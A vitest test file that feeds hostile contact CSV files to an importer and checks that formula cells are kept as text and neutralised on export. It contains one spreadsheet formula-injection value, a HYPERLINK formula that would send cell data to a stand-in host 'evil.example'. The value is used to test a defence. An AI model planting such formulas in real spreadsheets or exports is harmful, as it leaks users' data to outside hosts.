import { createReadStream } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { importContactsCsv } from '../../src/contacts/importContacts.js';
import { csvCell } from '../../src/csv/csvCell.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { HOSTILE_DIR, loadCorpus } from './corpus.js';

interface Expected {
  rows: number;
  inserted: number;
  rejected: number;
  errors: Array<{ line: number; column?: string; reasonIncludes: string }>;
}

describe('hostile contact CSV files', () => {
  let db: TestDatabase;
  const now = new Date('2026-11-27T07:00:00Z');

  beforeAll(async () => {
    db = await createTestDatabase();
  });
  afterAll(async () => {
    await db?.drop();
  });
  beforeEach(async () => {
    await db.sql`truncate contacts cascade`;
  });

  const cases = loadCorpus<Expected>('csv', ['.csv']);

  it.each(cases)(
    'imports the good rows of $file and reports each bad one at its line',
    async ({ file, expected }) => {
      const report = await importContactsCsv(db.sql, createReadStream(join(HOSTILE_DIR, 'csv', file)), {
        list: 'hostile',
        now,
        phoneRegion: 'RU',
      });
      expect(report).toMatchObject({
        rows: expected.rows,
        inserted: expected.inserted,
        rejected: expected.rejected,
      });
      expect(report.errors).toHaveLength(expected.errors.length);
      expected.errors.forEach((error, i) => {
        expect(report.errors[i]).toMatchObject({
          line: error.line,
          ...(error.column ? { column: error.column } : {}),
          reason: expect.stringContaining(error.reasonIncludes),
        });
      });
      const [stored] = await db.sql<{ n: number }[]>`select count(*)::int as n from contacts`;
      expect(stored?.n).toBe(expected.inserted);
    },
  );

  it('keeps formula cells as text and neutralises them whenever it writes them to a CSV', async () => {
    await importContactsCsv(
      db.sql,
      createReadStream(join(HOSTILE_DIR, 'csv', 'contacts-formula-injection.csv')),
      {
        now,
        phoneRegion: 'RU',
      },
    );
    const rows = await db.sql<{ name: string; attributes: { note: string } }[]>`
      select name, attributes from contacts order by phone`;
    expect(rows.map((row) => row.name)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '@SUM(A1:A9)',
    ]);
    for (const row of rows) {
      for (const value of [row.name, row.attributes.note]) {
        expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/);
      }
    }
  });
});
